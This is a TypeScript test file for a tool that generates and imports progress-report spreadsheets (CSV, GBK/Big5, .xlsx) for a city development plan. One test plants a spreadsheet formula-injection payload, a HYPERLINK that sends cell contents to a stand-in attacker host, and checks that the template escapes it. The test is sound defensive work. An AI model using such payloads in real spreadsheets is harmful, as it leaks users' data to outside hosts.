/**
 * Progress sheets round trip: the template (CSV, GBK CSV, .xlsx) filled in as a unit would → the import → a report
 * that `parseProgressReport` accepts with the values typed; and each bad cell kind with its own message and place.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { dezhouPlan } from '../src/dezhou-2023.js';
import { createPlanApi, parseProgressReport } from '../src/index.js';
import { decodeCsv, importProgressFiles, progressTemplate, sheetHeaders, templateCsv, templateXlsx, TemplateScopeError } from '../src/progress/index.js';
import { fiscalYearPlan } from './fiscal-year-plan.js';

const plan = dezhouPlan;
const api = createPlanApi(plan);
const utf8 = (text: string) => new TextEncoder().encode(text);
const valueColumn = 8;
const dateColumn = 9;
const noteColumn = 10;

/** Half of each target's amount: a reading every measure accepts. */
const half = (id: string) => api.getTarget(id)!.value / 2;

/** The CSV template with the value, date and note of some rows filled as a person types them. */
function fillCsv(csv: string, fill: Readonly<Record<string, readonly [string, string, string?]>>): string {
  const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
  for (const row of rows.slice(1)) {
    const cells = fill[row[0]!];
    if (cells) [row[valueColumn], row[dateColumn], row[noteColumn]] = [cells[0], cells[1], cells[2] ?? ''];
  }
  return Papa.unparse(rows, { newline: '\r\n' });
}

const typed = {
  't09.1': ['2,100', '2023-06-30', '5G: 上半年'],
  't04.3': ['2.1萬', '2023/6/30'],
  't38.3': ['36.4%', '2023年6月30日'],
  't01.1': ['２５', '2023-06-30'],
  't01.2': ['45億元', '2023-05-31'],
} as const;
const expected = { 't09.1': 2100, 't04.3': 2.1, 't38.3': 36.4, 't01.1': 25, 't01.2': 45 };

describe('progress template', () => {
  test('one row per target, headers in the chosen language, the value, date and note empty', () => {
    for (const lang of ['zh-Hant', 'zh-Hans', 'en'] as const) {
      const template = progressTemplate(plan, { lang });
      assert.equal(template.rows.length, plan.targets.length);
      assert.deepEqual(template.header, Object.values(sheetHeaders[lang]));
      for (const row of template.rows) assert.deepEqual(row.slice(valueColumn), ['', '', '']);
    }
    const row = progressTemplate(plan, { lang: 'zh-Hant' }).rows.find((r) => r[0] === 't09.1')!;
    assert.deepEqual(row.slice(0, 8), ['t09.1', '9. 大力發展數字經濟', '新開通5G基站', '個', '3000個', '2023-12-31', '自年初累計完成量', row[7]]);
    assert.ok(row[7]!.length > 0, 'lead units named');
  });

  test("CSV: a plan's text that a spreadsheet would run as a formula is written as text, and the filled sheet still imports", async () => {
    // A security review: the template wrote a metric of =HYPERLINK(…) as it was, and Excel ran it for every clerk.
    type Text = Record<'zh-Hant' | 'zh-Hans' | 'en', string>;
    const hostile = structuredClone(plan) as typeof plan & { targets: { taskId: string; metric: Text }[]; units: { name: Text }[] };
    const formula = '=HYPERLINK("http://evil.example/?"&A2,"點此")';
    const target = hostile.targets.find((t) => t.id === 't09.1')!;
    target.metric = { 'zh-Hant': formula, 'zh-Hans': formula, en: formula };
    const lead = hostile.tasks.find((t) => t.id === target.taskId)!.lead[0]!;
    hostile.units.find((u) => u.id === lead)!.name = { 'zh-Hant': '@SUM(1+1)', 'zh-Hans': '@SUM(1+1)', en: '@SUM(1+1)' };
    const csv = templateCsv(progressTemplate(hostile));
    const row = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.find((r) => r[0] === 't09.1')!;
    assert.equal(row[2], `'${formula}`);
    assert.match(row[7]!, /^'@SUM\(1\+1\)/);
    const result = await importProgressFiles([{ name: 'filled.csv', data: utf8(fillCsv(csv, { 't09.1': typed['t09.1'] })) }], hostile);
    assert.deepEqual(result.problems, []);
    assert.deepEqual(result.report!.entries.map((e) => [e.target, e.value]), [['t09.1', 2100]]);
  });

  test('--unit keeps the targets of the tasks the unit leads; --section those of a section', () => {
    const ndrc = progressTemplate(plan, { unit: '市發改委' });
    assert.deepEqual(ndrc.targets.map((t) => t.id), api.targetsOfUnit('市發改委', { role: 'lead' }).map((t) => t.id));
    assert.ok(ndrc.targets.length > 0 && ndrc.targets.length < plan.targets.length);
    assert.deepEqual(progressTemplate(plan, { section: 4 }).targets.map((t) => t.id), api.targetsOfSection(4).map((t) => t.id));
    assert.throws(() => progressTemplate(plan, { unit: '市不存在局' }), TemplateScopeError);
    assert.throws(() => progressTemplate(plan, { section: 99 }), (error) => {
      assert.ok(error instanceof TemplateScopeError);
      assert.deepEqual(error.scope, { code: 'noSection', plan: plan.id, section: '99' }, 'what is missing, typed, for the CLI to say in its language');
      assert.equal(error.message, `no section "99" in plan ${plan.id}`);
      return true;
    });
  });

  test('.xlsx: fixed columns locked, the sheet protected, a prompt on the value cells, a date rule on the date cells', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await templateXlsx(progressTemplate(plan, { lang: 'zh-Hans' }))) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    assert.equal(sheet.getRow(1).getCell(1).value, '指标编号');
    assert.equal(sheet.rowCount, plan.targets.length + 1);
    assert.ok((sheet as unknown as { sheetProtection?: { sheet?: boolean } }).sheetProtection?.sheet, 'sheet protected');
    const row = sheet.getRow(2);
    assert.notEqual(row.getCell(1).protection?.locked, false, 'target id locked');
    for (const c of [valueColumn, dateColumn, noteColumn]) assert.equal(row.getCell(c + 1).protection?.locked, false, `column ${c + 1} open`);
    assert.equal(row.getCell(valueColumn + 1).dataValidation?.type, 'any', 'no number rule: 2.1萬 is read (F128)');
    assert.equal(row.getCell(dateColumn + 1).dataValidation?.type, 'date');
  });
});

describe('progress import round trip', () => {
  const check = (report: unknown) => {
    const parsed = parseProgressReport(report, plan);
    assert.ok(parsed.success, JSON.stringify(parsed.issues));
    const values = Object.fromEntries(parsed.data.entries.map((e) => [e.target, e.value]));
    assert.deepEqual(values, expected);
    assert.equal(parsed.data.asOf, '2023-06-30');
    assert.equal(parsed.data.entries.find((e) => e.target === 't01.2')!.asOf, '2023-05-31');
    assert.equal(parsed.data.entries.find((e) => e.target === 't09.1')!.note, '5G: 上半年');
  };

  test('CSV in UTF-8 with a BOM and without', async () => {
    const filled = fillCsv(templateCsv(progressTemplate(plan)), typed);
    for (const text of [filled, '\uFEFF' + filled]) {
      const result = await importProgressFiles([{ name: 'units.csv', data: utf8(text) }], plan);
      assert.deepEqual(result.problems, []);
      check(result.report);
    }
  });

  test('CSV in GBK, as Excel on Chinese Windows saves it (Simplified headers)', async () => {
    const filled = fillCsv(templateCsv(progressTemplate(plan, { lang: 'zh-Hans' })), typed);
    const gbk = iconv.encode(filled, 'gbk');
    assert.throws(() => new TextDecoder('utf-8', { fatal: true }).decode(gbk), 'really not UTF-8');
    const result = await importProgressFiles([{ name: 'units-gbk.csv', data: new Uint8Array(gbk) }], plan);
    assert.deepEqual(result.problems, []);
    check(result.report);
  });

  test('CSV in Big5, as Excel on Traditional Chinese Windows saves it: GBK also decodes the bytes, the header says which', async () => {
    const filled = fillCsv(templateCsv(progressTemplate(plan, { lang: 'zh-Hant' })), typed);
    const big5 = new Uint8Array(iconv.encode(filled, 'big5'));
    assert.throws(() => new TextDecoder('utf-8', { fatal: true }).decode(big5), 'really not UTF-8');
    assert.doesNotThrow(() => new TextDecoder('gbk', { fatal: true }).decode(big5), 'GBK reads it too, as other characters');
    const result = await importProgressFiles([{ name: 'units-big5.csv', data: big5 }], plan);
    assert.deepEqual(result.problems, []);
    check(result.report);
  });

  test('an English header reads alike in GBK and Big5: the Chinese text of the rows tells which (Big5 was read as GBK, its notes and units garbled)', async () => {
    const notes = { ...typed, 't09.1': ['2,100', '2023-06-30', '5G: 上半年新開通基站'], 't04.3': ['2.1萬', '2023/6/30', '數據未經審核'] } as const;
    const filled = fillCsv(templateCsv(progressTemplate(plan, { lang: 'en' })), notes);
    const big5 = new Uint8Array(iconv.encode(filled, 'big5'));
    assert.doesNotThrow(() => new TextDecoder('gbk', { fatal: true }).decode(big5), 'GBK reads it too, header and all');
    assert.equal(decodeCsv(big5)?.encoding, 'Big5');
    const result = await importProgressFiles([{ name: 'units-en-big5.csv', data: big5 }], plan);
    assert.deepEqual(result.problems, []);
    assert.equal(result.report!.entries.find((e) => e.target === 't09.1')!.note, '5G: 上半年新開通基站');
    assert.equal(result.report!.entries.find((e) => e.target === 't04.3')!.note, '數據未經審核');
    const simplified = fillCsv(templateCsv(progressTemplate(plan, { lang: 'en' })), { 't09.1': ['2,100', '2023-06-30', '5G: 上半年新开通基站'], 't04.3': ['2.1萬', '2023/6/30', '数据未经审核'] });
    const gbk = new Uint8Array(iconv.encode(simplified, 'gbk'));
    assert.equal(decodeCsv(gbk)?.encoding, 'GBK', 'and a GBK sheet with the same header stays GBK');
  });

  test('an English header and too little Chinese to tell GBK from Big5: unreadable, saying so, not a guess', async () => {
    const big5 = new Uint8Array(iconv.encode('Target id,Value,As of,Note\r\nt09.1,2100,2023-06-30,上半年\r\n', 'big5'));
    assert.equal(decodeCsv(big5), undefined);
    const result = await importProgressFiles([{ name: 'short.csv', data: big5 }], plan, { lang: 'en' });
    assert.deepEqual(result.problems.map((p) => [p.file, p.code]), [['short.csv', 'unreadable']]);
    assert.match(result.problems[0]!.message, /^short\.csv: cannot be read: its encoding cannot be told: both GBK and Big5 read its header/);
    assert.match(result.problems[0]!.message, /「CSV UTF-8」/);
  });

  test('GBK as GB18030, which contains it: a four-byte character reads; a stray byte that no encoding reads is one U+FFFD, the sheet still read', async () => {
    const gbk = (text: string) => new Uint8Array(iconv.encode(text, 'gb18030'));
    const rare = await importProgressFiles([{ name: 'rare.csv', data: gbk('指标编号,完成值,截至日期,备注\r\nt09.1,2100,2023-06-30,𠀀村基站\r\n') }], plan, { lang: 'en' });
    assert.deepEqual(rare.problems, []);
    assert.equal(rare.report!.entries[0]!.note, '𠀀村基站');
    const cut = new Uint8Array([...gbk('指标编号,完成值,截至日期,备注\r\nt09.1,2100,2023-06-30,上半年'), 0xff, 0x0d, 0x0a]);
    assert.throws(() => new TextDecoder('gb18030', { fatal: true }).decode(cut), 'really not whole GB18030');
    const stray = await importProgressFiles([{ name: 'cut.csv', data: cut }], plan, { lang: 'en' });
    assert.deepEqual(stray.problems, []);
    assert.equal(stray.report!.entries[0]!.note, '上半年\uFFFD');
  });

  test('a CSV no encoding gives a header in says the encoding was not recognised and what was tried, not just "no header"', async () => {
    const shiftJis = new Uint8Array(iconv.encode('目標番号,実績,日付\r\nt09.1,2100,2023-06-30\r\n', 'shift_jis'));
    const result = await importProgressFiles([{ name: 'sjis.csv', data: shiftJis }], plan, { lang: 'en' });
    assert.deepEqual(result.problems.map((p) => [p.file, p.code]), [['sjis.csv', 'unreadable']]);
    assert.match(result.problems[0]!.message, /^sjis\.csv: cannot be read: its encoding was not recognised: tried UTF-8, GBK and Big5, and none gives a header row/);
    const noHeader = await importProgressFiles([{ name: 'notes.csv', data: utf8('填表說明\r\n請填寫完成值\r\n') }], plan, { lang: 'en' });
    assert.deepEqual(noHeader.problems.map((p) => p.code), ['noHeader'], 'UTF-8 is recognised: its missing header is named as such');
  });

  test('.xlsx with numbers, dates, a percent cell and text as typed', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await templateXlsx(progressTemplate(plan, { lang: 'en' }))) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    sheet.eachRow((row) => {
      const id = row.getCell(1).value as string;
      const at = (d: string) => new Date(`${d}T00:00:00Z`);
      if (id === 't09.1') [row.getCell(9).value, row.getCell(10).value, row.getCell(11).value] = [2100, at('2023-06-30'), '5G: 上半年'];
      if (id === 't04.3') [row.getCell(9).value, row.getCell(10).value] = ['2.1萬', at('2023-06-30')];
      if (id === 't38.3') {
        [row.getCell(9).value, row.getCell(10).value] = [0.364, '2023-06-30'];
        // A fresh style: ExcelJS shares one style object between the cells it loaded alike.
        row.getCell(9).style = { ...row.getCell(9).style, numFmt: '0.0%' };
      }
      if (id === 't01.1') [row.getCell(9).value, row.getCell(10).value] = [{ formula: '20+5', result: 25 }, at('2023-06-30')];
      if (id === 't01.2') [row.getCell(9).value, row.getCell(10).value] = [45, at('2023-05-31')];
    });
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    const result = await importProgressFiles([{ name: 'units.xlsx', data: bytes }], plan);
    assert.deepEqual(result.problems, []);
    check(result.report);
  });

  test('a plan whose period starts on 1 July: a reading in it dated before 1 January is accepted; one before it is not', async () => {
    const csv = utf8('指標編號,完成值,截至日期\r\nt09.1,1000,2022-09-30\r\nt04.3,1,2022-06-30\r\n');
    const result = await importProgressFiles([{ name: 'fy.csv', data: csv }], fiscalYearPlan, { lang: 'en', today: '2026-12-01' });
    assert.deepEqual(result.report, { plan: fiscalYearPlan.id, asOf: '2022-09-30', entries: [{ target: 't09.1', value: 1000 }] });
    assert.deepEqual(result.problems.map((p) => [p.code, p.row]), [['beforePeriod', 3]]);
    assert.match(result.problems[0]!.message, /2022-06-30 is before the start of the target's period \(2022-07-01\)/);
  });

  test('several units’ sheets merge into one report', async () => {
    const a = fillCsv(templateCsv(progressTemplate(plan)), { 't09.1': typed['t09.1'], 't04.3': typed['t04.3'] });
    const b = fillCsv(templateCsv(progressTemplate(plan, { lang: 'en' })), { 't38.3': typed['t38.3'], 't01.1': typed['t01.1'], 't01.2': typed['t01.2'], 't09.1': ['2100', '2023-06-30'] });
    const result = await importProgressFiles([{ name: 'a.csv', data: utf8(a) }, { name: 'b.csv', data: utf8(b) }], plan);
    assert.deepEqual(result.problems, []);
    assert.equal(result.accepted, 5, 'the same value twice is one entry');
    check(result.report);
  });
});

describe('progress import: each bad cell kind has its own message', () => {
  const header = Object.values(sheetHeaders.en).join(',');
  const row = (id: string, value: string, date = '2023-06-30', note = '') => `${id},,,,,,,,${value},${date},${note}`;
  const importCsv = (lines: readonly string[], options: { asOf?: string } = {}) =>
    importProgressFiles([{ name: 'bad.csv', data: utf8([header, ...lines].join('\n')) }], plan, { lang: 'en', ...options });

  const cases: readonly [string, string, RegExp, string][] = [
    ['notANumber', row('t09.1', '二千'), /^bad\.csv, row 2, Value: "二千" is not a number/, '二千'],
    ['wrongUnit', row('t09.1', '2100元'), /^bad\.csv, row 2, Value: "2100元" is not in the target's unit: write the number alone, read in units of 1 base station, or with the plan's unit, as 2100個$/, '2100元'],
    ['wrongScale', row('t04.3', '21000'), /^bad\.csv, row 2, Value: 21,000 is 6,364 times the target \(33,000 people\)/, '21000'],
    ['fractionForPercent', row('t38.3', '0.9'), /^bad\.csv, row 2, Value: 0\.9 looks like a fraction.*write 90 or 90%/, '0.9'],
    ['negative', row('t09.1', '-5'), /^bad\.csv, row 2, Value: -5 is negative/, '-5'],
    ['invalidDate', row('t09.1', '2100', '2023-02-30'), /^bad\.csv, row 2, As of: "2023-02-30" is not a real date/, '2023-02-30'],
    ['invalidDate', row('t09.1', '2100', '六月底'), /^bad\.csv, row 2, As of: "六月底" is not a real date/, '六月底'],
    ['beforePeriod', row('t09.1', '2100', '2022-12-31'), /^bad\.csv, row 2, As of: 2022-12-31 is before the start of the target's period \(2023-01-01\)/, '2022-12-31'],
    ['unknownTarget', row('t99.9', '5'), /^bad\.csv, row 2, Target id: "t99\.9" is not a target id of this plan/, 't99.9'],
    ['missingValue', row('t09.1', '', '2023-06-30'), /^bad\.csv, row 2, Value: a date or note but no value/, ''],
    // Review r106 L9: the way to date a whole import is named (the CLI's flag, the API's option of the same name).
    ['noDate', row('t09.1', '2100', ''), /^bad\.csv, row 2, As of: no date: .*--as-of YYYY-MM-DD/, ''],
  ];
  for (const [code, line, message, text] of cases) {
    test(`${code}: ${line}`, async () => {
      const result = await importCsv([line]);
      assert.equal(result.problems.length, 1, JSON.stringify(result.problems));
      const [problem] = result.problems;
      assert.equal(problem!.code, code);
      assert.equal(problem!.row, 2);
      assert.equal(problem!.text, text);
      assert.match(problem!.message, message);
      assert.equal(result.rejected, 1);
    });
  }

  test('a row with no date names --as-of in each language (review r106 L9)', async () => {
    for (const lang of ['zh-Hant', 'zh-Hans'] as const) {
      const result = await importProgressFiles([{ name: 'bad.csv', data: utf8([header, row('t09.1', '2100', '')].join('\n')) }], plan, { lang });
      assert.match(result.problems[0]!.message, /--as-of YYYY-MM-DD/, lang);
    }
  });

  test('a bad row is left out and the good ones kept (for --partial)', async () => {
    const result = await importCsv([row('t09.1', '2100'), row('t04.3', '二萬'), row('t38.3', '91')]);
    assert.equal(result.accepted, 2);
    assert.deepEqual(result.problems.map((p) => [p.row, p.code]), [[3, 'notANumber']]);
    assert.deepEqual(result.report!.entries.map((e) => e.target), ['t09.1', 't38.3']);
  });

  test('a date for the whole import fills empty dates', async () => {
    const result = await importCsv([row('t09.1', '2100', '')], { asOf: '2023-09-30' });
    assert.deepEqual(result.problems, []);
    assert.deepEqual(result.report, { plan: plan.id, asOf: '2023-09-30', entries: [{ target: 't09.1', value: 2100 }] });
  });

  test("a misspelt date column (截止日期 for 截至日期) is named, not dropped for the import's date (a new user's review)", async () => {
    const misspelt = (header: string, date: string) => ({ name: 'hdr.csv', data: utf8(`指標編號,完成值,${header}\nt09.1,50,${date}\nt09.2,3,\n`) });
    for (const options of [{}, { asOf: '2023-06-30' }]) {
      // 數據日期, 統計日期 (and Simplified): the date of the figures in other words (review r106 L9), said as 截止日期 is.
      for (const [header, date] of [['截止日期', '2023-03-31'], ['日期', '2023/3/31'], ['As at', '2023年3月31日'], ['數據日期', '2023-03-31'], ['统计日期', '2023-03-31']] as const) {
        const result = await importProgressFiles([misspelt(header, date)], plan, { lang: 'zh-Hant', ...options });
        assert.deepEqual(result.problems.map((p) => [p.code, p.row, p.column]), [['missingColumn', 1, header]], `${header} ${JSON.stringify(options)}`);
        assert.equal(result.problems[0]!.message, `hdr.csv 第 1 行「${header}」欄:表頭缺少「截至日期」欄,而「${header}」欄填的是日期,沒有讀取:請把表頭改為「截至日期」`);
        assert.deepEqual(result.report?.entries ?? [], [], 'no reading taken from the sheet');
      }
    }
    // A column a unit added is theirs, dates in it or not (填報日期, the day the sheet was filled in; one with no header),
    // and the import's date fills the empty dates as before.
    for (const [header, cell] of [['聯繫人', '王科長'], ['填報日期', '2023-07-05'], ['', '2023-07-05']]) {
      const added = await importProgressFiles([{ name: 'ok.csv', data: utf8(`指標編號,完成值,${header}\nt09.1,50,${cell}\n`) }], plan, { asOf: '2023-06-30' });
      assert.deepEqual(added.problems, [], header);
      assert.deepEqual(added.report!.entries, [{ target: 't09.1', value: 50 }]);
    }
  });

  test('two sheets disagreeing on a target and date', async () => {
    const files = ['a.csv', 'b.csv'].map((name, i) => ({ name, data: utf8(`${header}\n${row('t09.1', i ? '2200' : '2100')}`) }));
    const result = await importProgressFiles(files, plan, { lang: 'en' });
    // Review r57 M1: neither value is kept, so each row is a conflict naming the other (the first is no longer kept).
    assert.deepEqual(result.problems.map((p) => [p.file, p.code]), [['a.csv', 'conflict'], ['b.csv', 'conflict']]);
    assert.match(result.problems[0]!.message, /^a\.csv, row 2, Value: a different value than b\.csv, row 2 \(2,200\)/);
    assert.match(result.problems[1]!.message, /^b\.csv, row 2, Value: a different value than a\.csv, row 2 \(2,100\)/);
  });

  test('no header row, a header without the value column, a legacy .xls: whole-file problems', async () => {
    const result = await importProgressFiles(
      [
        { name: 'notes.csv', data: utf8('hello,world\n1,2') },
        { name: 'short.csv', data: utf8('指標編號,備註\nt09.1,x') },
        { name: 'old.xls', data: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) },
      ],
      plan,
      { lang: 'zh-Hant' },
    );
    assert.deepEqual(result.problems.map((p) => [p.file, p.code]), [['old.xls', 'unreadable'], ['notes.csv', 'noHeader'], ['short.csv', 'missingColumn']]);
    assert.match(result.problems[0]!.message, /^old\.xls:無法讀取:舊版 \.xls 活頁簿:請另存為 \.xlsx 或 CSV$/);
    assert.equal(result.problems[2]!.message, 'short.csv 第 1 行:表頭缺少「完成值」欄');
    assert.equal(result.report, undefined);
  });

  test('Chinese messages name the sheet, row and column', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('發改委');
    sheet.addRow(Object.values(sheetHeaders['zh-Hant']));
    for (let i = 0; i < 12; i++) sheet.addRow([]);
    sheet.getRow(14).values = ['t09.1', '', '', '', '', '', '', '', '二千', '2023-06-30'];
    const result = await importProgressFiles([{ name: '台賬.xlsx', data: new Uint8Array(await workbook.xlsx.writeBuffer()) }], plan);
    assert.equal(result.problems[0]!.message, '台賬.xlsx 工作表「發改委」第 14 行「完成值」欄:「二千」不是數字,請用阿拉伯數字填寫,如 3000');
  });
});
